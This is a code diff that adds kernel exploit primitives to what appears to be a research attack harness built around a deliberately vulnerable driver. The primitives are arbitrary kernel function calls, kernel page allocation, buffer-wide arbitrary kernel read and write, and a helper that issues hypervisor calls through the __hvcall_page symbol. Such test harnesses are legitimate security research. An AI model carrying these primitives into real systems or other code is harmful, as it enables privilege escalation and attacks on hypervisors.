@@ -169,3 +169,40 @@ NORETURN void umain(const char *cmdline)
             u_exit((u64)a->fn(args));
     attack_error("no attack program named '%.*s'", n, cmdline);
 }
+
+/* ---- families 10-11 (docs/attacks/secret-undo.md) */
+long kcall6(u64 target, u64 a0, u64 a1, u64 a2, u64 a3, u64 a4, u64 a5)
+{
+    u64 args[6] = {a0, a1, a2, a3, a4, a5}; /* on the user stack: the driver copies them in */
+    return vulndrv(VULNDRV_CALL6, target, (u64)args);
+}
+long kcall3(u64 target, u64 a0, u64 a1, u64 a2) { return kcall6(target, a0, a1, a2, 0, 0, 0); }
+
+u64 kalloc_page(void)
+{
+    u64 f = ksym("page_alloc");
+    return f ? (u64)kcall(f, 0) : 0;
+}
+
+void kwrite_buf(u64 kaddr, const void *src, u64 n)
+{
+    for (u64 o = 0; o < n; o += 8) {
+        u64 v = 0;
+        memcpy(&v, (const u8 *)src + o, n - o < 8 ? n - o : 8);
+        kwrite(kaddr + o, v);
+    }
+}
+
+void kread_buf(void *dst, u64 kaddr, u64 n)
+{
+    for (u64 o = 0; o < n; o += 8) {
+        u64 v = kread(kaddr + o);
+        memcpy((u8 *)dst + o, &v, n - o < 8 ? n - o : 8);
+    }
+}
+
+u64 khypercall(u64 control, u64 in_gpa, u64 out_gpa)
+{
+    /* the page's first bytes are "vmmcall; ret": called with RDI, RSI unused, RDX, RCX, R8 = a2, a3, a4 */
+    return (u64)kcall6(ksym("__hvcall_page"), 0, 0, in_gpa, control, out_gpa, 0);
+}
